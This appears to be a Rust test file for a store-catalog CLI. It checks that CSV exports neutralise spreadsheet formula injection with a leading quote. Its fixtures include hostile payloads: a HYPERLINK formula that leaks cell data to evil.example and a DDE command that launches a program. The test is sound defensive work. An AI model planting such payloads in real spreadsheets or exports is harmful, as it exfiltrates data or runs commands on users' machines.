//! Spreadsheet formula injection (item 8): store text that a spreadsheet would run as a formula
//! (a cell starting with `=`, `+`, `-`, `@`, tab or carriage return) is neutralised with a
//! leading `'` in `export --format csv` and `--variants` unless `--raw-cells`; plain numbers
//! (a price of -1.00) stay data; `shopify-csv` is written for Shopify's importer, as is.

use super::support;

use std::path::Path;

use support::fakeshop::{Catalog, FakeShop};

use super::{assert_code, cli, config_file, product};

const TITLE: &str = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Click me")"#;
const VENDOR: &str = "+cmd|' /C calc'!A0";

fn hostile() -> serde_json::Value {
    let mut p = product(
        1,
        "-handle",
        TITLE,
        &[
            (11, "\tTabbed", "=1+1", "-1.00"),
            (12, "\rReturned", "@SUM(A1:A9)", "10.00"),
        ],
    );
    p["vendor"] = VENDOR.into();
    p["product_type"] = "@type".into();
    p["tags"] = serde_json::json!(["-2+3", "plain"]);
    p
}

/// The CSV export with `args`, parsed: header and rows.
async fn export(config: &Path, db: &Path, args: &[&str]) -> Vec<csv::StringRecord> {
    let done = cli(config, db, &[&["export"], args].concat()).await;
    assert_code(&done, 0);
    csv::Reader::from_reader(done.stdout.as_bytes())
        .into_records()
        .map(Result::unwrap)
        .collect()
}

/// The cell of `row` in column `name` of `header`.
fn cell<'a>(header: &csv::StringRecord, row: &'a csv::StringRecord, name: &str) -> &'a str {
    let at = header.iter().position(|c| c == name).expect(name);
    &row[at]
}

async fn header(config: &Path, db: &Path, args: &[&str]) -> csv::StringRecord {
    let done = cli(config, db, &[&["export"], args].concat()).await;
    let mut reader = csv::Reader::from_reader(done.stdout.as_bytes());
    reader.headers().unwrap().clone()
}

/// No cell starts a formula, except a cell that is a plain decimal number.
fn assert_no_formula(rows: &[csv::StringRecord]) {
    for row in rows {
        for cell in row {
            let number = cell.strip_prefix('-').unwrap_or(cell);
            let plain = !number.is_empty()
                && number.split('.').count() <= 2
                && number.chars().all(|c| c.is_ascii_digit() || c == '.');
            let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            assert!(
                !formula || plain,
                "a formula cell reaches the CSV: {cell:?}"
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_exports_neutralise_formula_cells_unless_raw_cells() {
    let shop = FakeShop::start(Catalog::from_products(&[hostile()])).await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("m.db");
    let config = config_file(
        &db,
        &format!(
            "[stores.shop]\nurl = \"{}\"\ncollections = false\n",
            shop.url()
        ),
    );
    assert_code(&cli(&config, &db, &["sync", "shop"]).await, 0);

    let products = export(&config, &db, &["--format", "csv"]).await;
    let head = header(&config, &db, &["--format", "csv"]).await;
    assert_no_formula(&products);
    assert_eq!(cell(&head, &products[0], "title"), format!("'{TITLE}"));
    assert_eq!(cell(&head, &products[0], "vendor"), format!("'{VENDOR}"));
    assert_eq!(cell(&head, &products[0], "product_type"), "'@type");
    assert_eq!(cell(&head, &products[0], "handle"), "'-handle");
    assert_eq!(cell(&head, &products[0], "tags"), "'-2+3, plain");

    let variants = export(&config, &db, &["--format", "csv", "--variants"]).await;
    let head = header(&config, &db, &["--format", "csv", "--variants"]).await;
    assert_no_formula(&variants);
    assert_eq!(cell(&head, &variants[0], "sku"), "'=1+1");
    assert_eq!(cell(&head, &variants[0], "variant_title"), "'\tTabbed");
    assert_eq!(
        cell(&head, &variants[0], "price"),
        "-1.00",
        "a number stays data"
    );
    assert_eq!(cell(&head, &variants[1], "option1"), "'\rReturned");
    assert_eq!(cell(&head, &variants[1], "sku"), "'@SUM(A1:A9)");

    let raw = export(&config, &db, &["--format", "csv", "--raw-cells"]).await;
    assert_eq!(cell(&head_of(&config, &db).await, &raw[0], "title"), TITLE);
    let raw = export(
        &config,
        &db,
        &["--format", "csv", "--variants", "--raw-cells"],
    )
    .await;
    assert_eq!(cell(&head, &raw[0], "sku"), "=1+1");

    for format in ["jsonl", "shopify-csv"] {
        let refused = cli(&config, &db, &["export", "--format", format, "--raw-cells"]).await;
        assert_code(&refused, 2);
    }
    // Imported by Shopify, not opened: the cells are the shop's data as they are.
    let shopify = export(&config, &db, &["--format", "shopify-csv"]).await;
    let head = header(&config, &db, &["--format", "shopify-csv"]).await;
    assert_eq!(cell(&head, &shopify[0], "Title"), TITLE);
    assert_eq!(cell(&head, &shopify[0], "SKU"), "=1+1");
}

async fn head_of(config: &Path, db: &Path) -> csv::StringRecord {
    header(config, db, &["--format", "csv"]).await
}
